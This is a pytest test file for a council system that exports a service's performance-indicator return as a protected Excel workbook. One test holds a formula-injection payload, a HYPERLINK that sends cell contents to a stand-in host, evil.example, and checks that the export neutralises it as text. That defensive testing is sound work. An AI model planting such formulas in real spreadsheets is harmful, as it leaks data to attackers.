"""A service's return as an Excel workbook: what the officer downloads and fills in."""

from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import load_workbook

from indicators.models import Lifecycle
from indicators.tests.factories import IndicatorFactory
from indicators.workflow import record_value, submit_value
from returns.workbooks import HEADERS, return_workbook, workbook_filename

pytestmark = pytest.mark.django_db

INPUT_HEADERS = (
    "Figure",
    "Numerator",
    "Denominator",
    "Data quality",
    "Commentary",
    "Why",
    "Actions",
    "No figure because",
)
LOCKED_HEADERS = ("Code", "Indicator", "Unit", "Last period", "Last figure", "Target", "Status")


def download(cycle, service, council, today):
    return load_workbook(
        BytesIO(return_workbook(cycle, service, today=today, council=council)), rich_text=False
    )


def by_header(sheet) -> dict[str, int]:
    return {cell.value: cell.column for cell in sheet[1]}


def cell(sheet, row: int, header: str):
    return sheet.cell(row=row, column=by_header(sheet)[header])


@pytest.fixture
def book(council, today, cycle, recycling, missed_bins, parks):
    """The Waste return: WST-01 (%, with numerator and denominator) and WST-02 (a number).
    Parks and a retired Waste indicator are not in it."""
    IndicatorFactory(code="PRK-01", title="Parks with a Green Flag", owner=parks)
    IndicatorFactory(
        code="WST-09", title="Old recycling measure", owner=recycling.owner,
        lifecycle=Lifecycle.RETIRED,
    )  # fmt: skip
    return download(cycle, recycling.owner, council, today)


def test_the_workbook_has_instructions_the_return_and_a_hidden_sheet_naming_the_return(
    book, cycle, waste
):
    assert book.sheetnames == ["Instructions", "Return", "Golden Thread"]
    assert book.active.title == "Return"
    about = book["Golden Thread"]
    assert about.sheet_state == "veryHidden"
    facts = {row[0]: row[1] for row in about.iter_rows(values_only=True)}
    assert facts["cycle"] == cycle.pk
    assert facts["service"] == "waste"
    assert book.security.lockStructure  # sheets cannot be renamed or deleted by accident


def test_the_instructions_give_the_deadline_the_columns_and_the_all_or_nothing_rule(book):
    text = " ".join(
        str(value)
        for row in book["Instructions"].iter_rows(values_only=True)
        for value in row
        if value
    )

    assert "Waste and Recycling: return for Q2 2026/27" in text
    assert "Figures are due by 20 October 2026." in text
    assert "If any row has a problem, nothing is imported" in text
    assert "A row whose code is changed or missing is rejected." in text
    assert "There is no password" in text
    for header in HEADERS:
        assert header in text


def test_one_row_per_due_indicator_with_last_period_and_target(book):
    sheet = book["Return"]

    assert tuple(c.value for c in sheet[1]) == HEADERS
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        "WST-01",
        "WST-02",
    ]
    assert cell(sheet, 2, "Indicator").value == "Household waste recycled"
    assert cell(sheet, 2, "Unit").value == "%"
    assert cell(sheet, 2, "Last period").value == "Q1 2026/27"
    assert cell(sheet, 2, "Last figure").value == "46.0%"
    assert cell(sheet, 2, "Target").value == "50.0%"
    assert cell(sheet, 2, "Status").value == "Not started"
    assert cell(sheet, 3, "Last period").value == "None yet"
    assert cell(sheet, 3, "Target").value == "No target"


def test_the_sheet_is_protected_without_a_password_with_only_the_answers_unlocked(book):
    sheet = book["Return"]

    assert sheet.protection.sheet
    assert not sheet.protection.password
    for row in (2, 3):
        for header in LOCKED_HEADERS:
            assert cell(sheet, row, header).protection.locked, (row, header)
    for header in INPUT_HEADERS:
        assert not cell(sheet, 2, header).protection.locked, header
    # WST-02 has no numerator or denominator: those cells stay locked.
    assert cell(sheet, 3, "Numerator").protection.locked
    assert cell(sheet, 3, "Denominator").protection.locked
    assert not cell(sheet, 3, "Figure").protection.locked


def test_numbers_and_data_quality_are_validated_as_the_officer_types(book):
    sheet = book["Return"]
    validations = {v.type: v for v in sheet.data_validations.dataValidation}

    assert validations["list"].formula1 == '"Final,Provisional,Estimated"'
    assert str(validations["list"].sqref) == "K2:K3"
    assert validations["decimal"].showErrorMessage
    assert set(str(validations["decimal"].sqref).split()) == {"H2:H3", "I2:I3", "J2:J3"}


def test_the_header_is_frozen_and_the_columns_have_sensible_widths(book):
    sheet = book["Return"]

    assert sheet.freeze_panes == "C2"
    assert sheet.column_dimensions["B"].width == 45  # Indicator
    assert sheet.column_dimensions["L"].width == 40  # Commentary


def test_draft_figures_are_filled_in_and_submitted_figures_locked(
    council, today, cycle, officer, recycling, missed_bins
):
    record_value(
        indicator=recycling,
        period=cycle.period,
        entries={
            "figure": Decimal("47.5"),
            "numerator": Decimal("95"),
            "denominator": Decimal("200"),
            "data_quality": "provisional",
            "commentary": "Garden waste season",
        },
        by=officer,
    )
    bins = record_value(
        indicator=missed_bins, period=cycle.period, entries={"figure": Decimal("12")}, by=officer
    )
    submit_value(value=bins, by=officer)

    sheet = download(cycle, recycling.owner, council, today)["Return"]

    assert cell(sheet, 2, "Figure").value == 47.5
    assert cell(sheet, 2, "Numerator").value == 95
    assert cell(sheet, 2, "Data quality").value == "Provisional"
    assert cell(sheet, 2, "Commentary").value == "Garden waste season"
    assert cell(sheet, 2, "Status").value == "Draft"
    assert cell(sheet, 3, "Figure").value == 12
    assert cell(sheet, 3, "Status").value == "Submitted"
    for header in INPUT_HEADERS:
        assert cell(sheet, 3, header).protection.locked, header


def test_the_file_is_named_after_the_period_and_service(cycle, waste):
    assert workbook_filename(cycle, waste) == "return-Q2-2026-27-waste-and-recycling.xlsx"


def test_text_that_a_spreadsheet_would_run_is_written_as_text_never_a_formula(
    council, today, cycle, officer, recycling, missed_bins
):
    """Commentary like =HYPERLINK("http://evil.example/?leak="&A1, …) would send the
    workbook's contents to whoever wrote it, once opened in Excel."""
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
    waste = recycling.owner
    waste.name = "=Waste and Recycling"
    waste.save()
    record_value(
        indicator=recycling,
        period=cycle.period,
        entries={
            "figure": Decimal("47.5"),
            "commentary": hostile,
            "reasons": "+44 7700 900123 rang in",
            "actions": "-5 bins a week",
            "not_available_reason": "@risk",
        },
        by=officer,
    )

    book = download(cycle, waste, council, today)

    formulas = [
        f"{sheet.title}!{c.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    assert formulas == []
    sheet = book["Return"]
    assert cell(sheet, 2, "Commentary").value == "'" + hostile
    assert cell(sheet, 2, "Why").value == "'+44 7700 900123 rang in"
    assert cell(sheet, 2, "Actions").value == "'-5 bins a week"
    assert cell(sheet, 2, "No figure because").value == "'@risk"
    assert book["Instructions"]["A1"].value.startswith("'=Waste and Recycling")
